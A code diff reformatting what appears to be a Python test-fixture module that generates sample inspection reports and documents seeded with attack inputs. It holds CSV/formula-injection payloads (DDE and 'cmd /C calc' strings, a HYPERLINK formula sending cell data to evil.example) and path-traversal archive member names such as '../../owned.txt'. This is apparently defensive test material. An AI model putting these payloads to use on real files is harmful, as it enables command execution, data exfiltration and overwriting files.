@@ -59,7 +59,7 @@ ATTACKS: dict[str, str] = {
     "a minus": "-2+3+cmd|' /C calc'!A0",
     "an at": "@SUM(1+1)*cmd|' /C calc'!A0",
     "a link of a sheet": '=HYPERLINK("https://evil.example?x="&A1,"more")',
-    "exchange of data": "=DDE(\"cmd\";\"/C calc\";\"x\")",
+    "exchange of data": '=DDE("cmd";"/C calc";"x")',
     "a wide command": "\uff1dcmd|' /C calc'!A0",
     "wide signs": "\uff0b1 \uff0d1 \uff20SUM(1)",
     "a cell of its own": '";=1+1;" ,=1+1,"',
@@ -107,8 +107,10 @@ def report_text(year: int = 2018, attacks: dict[str, str] | None = None) -> str:
         *_PROSE,
         f"We found that 35 officers {whole} had second jobs.",
         "## Areas for improvement",
-        *(f"- The force should improve how {_MATTERS[n % 4]} {n} {one} is recorded {one}, by 31 March {year + 2}."
-          for n, one in enumerate(words.values())),
+        *(
+            f"- The force should improve how {_MATTERS[n % 4]} {n} {one} is recorded {one}, by 31 March {year + 2}."
+            for n, one in enumerate(words.values())
+        ),
         "## Cause of concern",
         f"The force's {_MATTERS[0]} {whole} is a cause of concern.",
         "## Recommendations",
@@ -190,9 +192,9 @@ def _odt(text: str) -> bytes:
 
 
 # Members that would be written beside or above the file by whoever unpacks by name.
-_STRAY: dict[str, str | bytes] = {
-    name: b"owned" for name in ("../../owned.txt", "/tmp/owned.txt", "..\\owned.txt", "C:\\owned.txt", "a\x1b[31m\nb")
-}
+_STRAY: dict[str, str | bytes] = dict.fromkeys(
+    ("../../owned.txt", "/tmp/owned.txt", "..\\owned.txt", "C:\\owned.txt", "a\x1b[31m\nb"), b"owned"
+)
 
 
 def _rtf(text: str) -> bytes:
